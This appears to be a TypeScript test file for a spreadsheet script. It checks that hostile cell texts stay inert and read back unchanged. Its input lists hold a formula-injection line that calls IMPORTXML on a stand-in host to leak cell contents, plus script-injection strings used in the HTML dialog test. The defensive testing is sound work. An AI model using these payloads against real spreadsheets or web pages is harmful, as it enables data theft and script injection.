/** Hostile texts: whatever the script copies into a cell arrives as text and reads back as it was. */

import fc from 'fast-check';
import type {Cell} from '../../src/model/cell';
import {encodeCell} from '../../src/workbook/encode';
import {allShown, emptyHost} from '../sample-host';
import {columnOf, onSheet, put, run, smallBook} from './small-book';

/** What a line of a short text may be. */
const LINES = [
  '=IMPORTXML("http://x?"&A1;"//a")',
  '=1+1',
  '+1',
  '-2+3',
  '@x',
  "'с апострофом",
  "''два",
  '007',
  '1E5',
  '35',
  '12,5 %',
  'ИСТИНА',
  'TRUE',
  '6-11',
  'октябрь 2022',
  '</script><script>alert(1)</script>',
  '👩‍🏫 №\u00a01',
  '{1\\2}',
];
const TEXTS = [
  ...LINES,
  '#REF!',
  '\t=1',
  '\r=1',
  ' =1',
  'две\nстроки',
  'я'.repeat(49_999),
];

describe('encodeCell', () => {
  test.each(['', '0', 'dd.mm.yyyy'])(
    'every text reads back identical from a cell of the format «%s»',
    format => {
      const host = emptyHost();
      const read = host.evaluate(
        (cells: Cell[], numberFormat: string) => {
          const sheet = SpreadsheetApp.getActive().getSheets()[0];
          const range = sheet.getRange(1, 1, cells.length, 1);
          if (numberFormat !== '') range.setNumberFormat(numberFormat);
          range.setValues(cells.map(cell => [cell]));
          SpreadsheetApp.flush();
          return {
            values: range.getValues().map(([value]) => value as unknown),
            formulas: range.getFormulas().flat(),
          };
        },
        TEXTS.map(encodeCell),
        format,
      );
      expect(read.values).toEqual(TEXTS);
      expect(read.formulas).toEqual(TEXTS.map(() => ''));
    },
  );

  test('leaves blanks, numbers and truth values as they are', () => {
    expect(['', 0, -1.5, true, false].map(encodeCell)).toEqual([
      '',
      0,
      -1.5,
      true,
      false,
    ]);
  });

  test('property: one apostrophe, and the text behind it', () => {
    fc.assert(
      fc.property(fc.string({minLength: 1, unit: 'binary'}), text => {
        expect(encodeCell(text)).toBe(`'${text}`);
      }),
    );
  });
});

describe('Hostile texts on the way through a command', () => {
  const host = smallBook();
  put(
    host,
    'Учреждения',
    2,
    ...LINES.map(line => ({
      'Краткое название': line,
      Тип: 'школа',
      'Группа рейтинга': 'школы, гимназии, лицеи',
    })),
  );
  onSheet(
    host,
    'Показатели',
    (sheet, lines) => {
      const header = sheet
        .getRange(1, 1, 1, sheet.getLastColumn())
        .getValues()[0];
      const column = header.indexOf('Группа') + 1;
      sheet
        .getRange(2, header.indexOf('Действует') + 1, lines.length, 1)
        .setValue('да');
      lines.forEach((line, index) => {
        sheet.getRange(index + 2, column).setValue(line);
      });
    },
    LINES,
  );
  const message = run(host);

  test('names of institutions and of groups stand on the pages as they were typed', () => {
    const shownTexts = new Set(allShown(host, 'Баллы').flat());
    expect(LINES.filter(line => !shownTexts.has(line))).toEqual([]);
    const formulas = onSheet(host, 'Баллы', sheet =>
      sheet.getDataRange().getFormulas().flat(),
    );
    const outsideQuotes = formulas.map(formula =>
      formula.replace(/"(?:[^"]|"")*"/g, ''),
    );
    expect(outsideQuotes.filter(text => /IMPORTXML/.test(text))).toEqual([]);
    expect(columnOf(host, 'Учреждения', 'Краткое название')).toEqual(LINES);
    host.run('computeScores');
    expect(host.meter?.usage().items.setter).toBe(0);
  });

  test('the dialog shows them as text, not as markup', () => {
    put(host, 'Площадки', 2, {Учреждение: '</li><script>alert(1)</script>'});
    expect(run(host)).toContain('«</li><script>alert(1)</script>»');
    expect(host.ui.panels[0].html).not.toContain('<script');
    expect(message).toContain('Баллы рассчитаны');
  });

  test('the register of documents holds them as text', () => {
    put(host, 'Настройки', 2, {Значение: '=1+1'});
    run(host, 'makeNetworkReport');
    expect(columnOf(host, 'Отчёты', 'О чём')).toEqual(['=1+1']);
    expect(
      onSheet(host, 'Отчёты', sheet =>
        sheet.getDataRange().getFormulas().flat().join(''),
      ),
    ).toBe('');
  });
});
